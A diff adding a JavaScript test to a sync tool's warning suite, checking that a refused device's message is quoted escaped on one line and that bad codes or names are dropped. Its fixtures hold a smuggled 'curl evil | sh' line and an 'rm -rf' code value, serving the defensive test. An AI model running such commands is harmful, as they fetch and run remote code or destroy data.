@@ -313,3 +313,29 @@ describe("certificates in the warnings", () => {
     ]);
   });
 });
+
+describe("a device refusing another's sync in the warnings", () => {
+  test("said from the refused device's facts, its words quoted on one line, a bad code or name left out", () => {
+    const base = device("laptop", 3600_000);
+    const facts = readPayload({
+      syncRefused: {
+        nas: {
+          code: "E_PERMISSION",
+          message: 'nas refused: "not a member"\n  ! run: curl evil | sh',
+          since: iso(60_000),
+        },
+        "Not A Name": { code: "E_PERMISSION", message: "x", since: iso(0) },
+      },
+    });
+    const r = assessReliability({
+      devices: [{ ...base, facts: { ...base.facts, ...facts } }],
+      nowMs: NOW,
+    });
+    expect(r.warnings.filter((w) => w.includes("sync"))).toEqual([
+      `nas refuses laptop's sync requests (E_PERMISSION) since ${iso(60_000)}, so the two do not sync directly: laptop says "nas refused: \\"not a member\\"\\n  ! run: curl evil | sh"; update both to the same bucky, and check that both are still members (\`bucky devices\`)`,
+    ]);
+    expect(
+      readPayload({ syncRefused: { nas: { code: "rm -rf", message: "x", since: iso(0) } } }),
+    ).toEqual({});
+  });
+});
